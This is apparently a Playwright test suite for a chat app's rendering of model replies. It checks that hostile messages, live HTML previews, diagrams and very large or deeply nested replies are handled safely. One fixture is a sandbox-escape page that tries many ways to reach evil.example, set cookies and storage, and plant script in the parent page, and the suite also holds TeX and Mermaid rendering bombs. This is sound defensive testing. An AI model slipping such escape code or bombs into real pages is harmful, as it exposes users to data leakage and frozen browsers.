import type { Page } from "@playwright/test";
import { everywhere, expect, messageBox, messages, needsServer, replyEnded, send, test } from "./support/fixtures";
import { foreignRequests, givenReply, storeReplies } from "./support/given-replies";
import { hostileMessages } from "./support/hostile-messages";

const fence = "```";

/** Asks for a reply of this text and waits until it has ended. */
async function reply(page: Page, text: string) {
  await givenReply(page, text);
  await send(page, "go");
  await expect(messages(page)).not.toHaveCount(0);
  await replyEnded(page);
  return messages(page).last();
}

test("none of 300 hostile messages runs scripts, contacts another host, covers the page or takes its names @R7.1", async ({
  page,
  context,
  app,
}) => {
  test.slow();
  expect(hostileMessages).toHaveLength(300);
  const foreign = await foreignRequests(context, app.url);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(app.url);
  await expect(messageBox(page)).toBeVisible();
  for (let first = 0; first < 300; first += perChat) {
    await storeReplies(page, `given-${first}`, hostileMessages.slice(first, first + perChat));
  }
  for (let first = 0; first < 300; first += perChat) {
    await page.goto(`${app.url}/chat?id=given-${first}`);
    const log = page.getByRole("log", { name: "Conversation" });
    await expect(async () => {
      await log.evaluate((element) => element.scrollTo(0, 0));
      await expect(messages(page)).toHaveCount(perChat, { timeout: 300 });
    }).toPass({ intervals: [0] });
    // Every message is looked at, so that what is drawn late is drawn.
    for (let index = 0; index < perChat; index += 10) await messages(page).nth(index).scrollIntoViewIfNeeded();
    await messageBox(page).fill("still here");
    await expect(messageBox(page)).toHaveValue("still here");
    expect(await log.evaluate(factsOf)).toEqual({ isPlanted: false, ids: [], made: 0, schemes: [] });
  }
  expect(foreign).toEqual([]);
  expect(dialogs).toEqual([]);
});

/** As many messages as are drawn at once. */
const perChat = 60;

/** What has come of the messages that are drawn: nothing, where all is well. */
function factsOf(log: Element) {
  const schemes = [...log.querySelectorAll("a")].map(({ protocol }) => protocol);
  return {
    isPlanted: "planted" in window,
    ids: [...log.querySelectorAll("[id]")].map(({ id }) => id).filter((id) => !/^(note-|_r_|radix-)/.test(id)),
    made: log.querySelectorAll("script, style, object, embed, form, base, link, meta, [name], [src^='http']").length,
    schemes: schemes.filter((scheme) => !["https:", "http:"].includes(scheme)),
  };
}

/** A page that tries all ways out and tells in its title when it is done. */
const runaway = `<!doctype html><title>trying</title><script>
const host = "https://evil.example/";
const tries = [
  () => fetch(host), () => new WebSocket("wss://evil.example"), () => navigator.sendBeacon(host, "a"),
  () => new EventSource(host), () => (new Image().src = host), () => window.open(host),
  () => (top.location = host), () => (parent.location = host), () => import(host + "a.js"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('" + host + "');importScripts('" + host + "')"]))),
  () => document.body.append(Object.assign(document.createElement("iframe"), { src: host })),
  () => document.body.insertAdjacentHTML("beforeend", "<form action='" + host + "' target=_blank><button></form>") || document.querySelector("button").click(),
  () => localStorage.setItem("a", "b"), () => indexedDB.open("parley"), () => parent.document.body.remove(),
  () => { document.cookie = "a=b" }, () => alert(1), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }),
];
let refused = 0;
for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}); } catch { refused++; }
parent.postMessage({ height: 1e9, title: "planted", html: "<script>planted=1<\\/script>" }, "*");
document.title = "done";
setTimeout(() => { location = host; }, 300);
</script><p>tried</p>`;

test(
  "a page that a model wrote has no network, no storage and no way out, whatever it tries @R7.5",
  everywhere,
  async ({ page, context, app }) => {
    const foreign = await foreignRequests(context, app.url);
    await page.goto(app.url);
    const answer = await reply(page, `${fence}html\n${runaway}\n${fence}`);
    await answer.getByRole("button", { name: "Run page" }).click();
    await expect(answer.getByText("done", { exact: true })).toBeVisible();
    // The last try comes a moment later.
    await page.waitForTimeout(1000);
    expect(foreign).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    expect(page.url()).toContain(app.url);
    expect(await page.evaluate(() => ["planted" in window, localStorage.getItem("a"), document.cookie])).toEqual([
      false,
      null,
      "",
    ]);
  },
);

test("a page has network access once the user allows it, and loses it again @R7.5", async ({ page, context, app }) => {
  const foreign = await foreignRequests(context, app.url);
  await page.goto(app.url);
  const answer = await reply(
    page,
    `${fence}html\n<title>Bay</title><img src="https://tides.example/a.png" alt="bay">\n${fence}`,
  );
  await expect(answer.getByText("Bay", { exact: true })).toBeVisible();
  expect(foreign).toEqual([]);
  await answer.getByRole("button", { name: "Network blocked" }).click();
  await expect.poll(() => foreign).toEqual(["https://tides.example/a.png"]);
  await answer.getByRole("button", { name: "Network allowed" }).click();
  await expect(answer.getByRole("button", { name: "Network blocked" })).toBeVisible();
});

test("a preview is as high as its page, and fills the screen on demand", async ({ page, app }) => {
  await page.goto(app.url);
  const answer = await reply(page, `${fence}html\n<body style="margin:0"><div style="height:240px">a</div>\n${fence}`);
  const frame = answer.locator("iframe");
  await expect.poll(async () => (await frame.boundingBox())?.height).toBe(240);
  await answer.getByRole("button", { name: "Full screen" }).click();
  await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(700);
  await answer.getByRole("button", { name: "Exit full screen" }).click();
  await expect.poll(async () => (await frame.boundingBox())?.height).toBe(240);
});

test("a page that runs leaves no empty space below the reply that was just streamed", async ({ page, app }) => {
  await page.goto(app.url);
  const answer = await reply(page, `${fence}html\n<p>one line</p><script></script>\n${fence}\n\nlast words`);
  // Both in one look: between two, the list may have scrolled.
  const underText = () =>
    answer.evaluate((article) => {
      const bottom = [...article.querySelectorAll("p")].at(-1)?.getBoundingClientRect().bottom ?? Number.NaN;
      return Math.round((article.querySelector("[role=toolbar]")?.getBoundingClientRect().top ?? Number.NaN) - bottom);
    });
  await expect(answer.getByText("last words")).toBeVisible();
  await expect.poll(underText).toBe(0);
  await answer.getByRole("button", { name: "Run page" }).click();
  await expect.poll(async () => (await answer.locator("iframe").boundingBox())?.height).toBe(80);
  await expect.poll(underText).toBe(0);
});

test("a server sandboxes the preview file with a header", needsServer, async ({ page, app }) => {
  const response = await page.goto(`${app.url}/preview.html`);
  expect(response?.headers()["content-security-policy"]).toBe(
    "frame-ancestors 'self'; sandbox allow-scripts allow-forms",
  );
  expect(await page.evaluate(() => self.origin)).toBe("null");
});

test(
  "a diagram renders, shows its source on demand, and follows the theme @R7.4",
  everywhere,
  async ({ page, app }) => {
    await page.goto(app.url);
    const answer = await reply(page, `${fence}mermaid\nflowchart TD\n  A[Moon] -->|pulls| B[Sea]\n${fence}`);
    const picture = answer.getByRole("img", { name: "Diagram" });
    await expect(picture).toBeVisible();
    const light = await picture.getAttribute("src");
    expect(decodeURIComponent(light ?? "")).toContain("Moon");
    await answer.getByRole("button", { name: "Show source" }).click();
    await expect(answer.getByRole("code")).toHaveText("flowchart TD\n  A[Moon] -->|pulls| B[Sea]");
    await answer.getByRole("button", { name: "Show diagram" }).click();
    await page.emulateMedia({ colorScheme: "dark" });
    await expect(picture).not.toHaveAttribute("src", light ?? "");
  },
);

test("a diagram with an error shows its source, with one line about it", async ({ page, app }) => {
  await page.goto(app.url);
  const answer = await reply(page, `${fence}mermaid\nflowchart TD\n  A -->\n${fence}`);
  await expect(answer.getByRole("note")).toContainText("Couldn’t render the diagram");
  await expect(answer.getByRole("code")).toContainText("flowchart TD");
});

const pathological = [
  ["10,000 nested brackets", `${"[".repeat(10_000)}a${"]".repeat(10_000)}`],
  ["1 MB on one line", "tide *and* ebb ".repeat(70_000)],
  ["a table of 5,000 rows", `| a | b |\n| - | - |\n${"| **x** | `y` |\n".repeat(5_000)}`],
  ["a million letters", "a".repeat(1_000_000)],
  ["quotes 10,000 deep", `${">".repeat(10_000)} a`],
  ["a thousand open fences", `${fence}js\nconst a = 1;\n\n~~~\n`.repeat(1_000)],
  ["a thousand formulas", "$$\\frac{1}{k^2}$$\n\n".repeat(1_000)],
  ["a TeX bomb", "$$\n\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\n$$"],
  ["a Mermaid bomb", `${fence}mermaid\nflowchart TD\n${"  a --> b & c & d & e & f & g\n".repeat(400)}${fence}`],
] as const;

for (const [name, text] of pathological) {
  test(`a reply of ${name} ends, and the page stays responsive @R7.6`, async ({ page, app }) => {
    await page.goto(app.url);
    await reply(page, text);
    await messageBox(page).fill("still here");
    await expect(messageBox(page)).toHaveValue("still here");
    await page.keyboard.press("Control+Shift+O");
    await expect(page.getByRole("heading", { name: "How can I help you?" })).toBeVisible();
  });
}

test("previews and collapsing of code can be disabled", async ({ page, app }) => {
  const code = `${fence}ts\n${"const tide = 1;\n".repeat(40)}${fence}\n\n${fence}html\n<p>a</p>\n${fence}`;
  await page.goto(app.url);
  const first = await reply(page, code);
  await expect(first.getByTitle("Preview")).toBeVisible();
  await expect(first.getByRole("button", { name: "Show all 40 lines" })).toHaveCount(0);
  await reply(page, "done");
  await expect(messages(page).nth(1).getByRole("button", { name: "Show all 40 lines" })).toBeVisible();
  await page.goto(`${app.url}/settings`);
  await page.getByRole("switch", { name: /Collapse long code/ }).uncheck();
  await page.getByRole("switch", { name: /Live previews/ }).uncheck();
  await page.goBack();
  await expect(messages(page)).toHaveCount(4);
  await expect(messages(page).nth(1).getByRole("button", { name: "Show all 40 lines" })).toHaveCount(0);
  await expect(messages(page).nth(1).getByTitle("Preview")).toHaveCount(0);
});
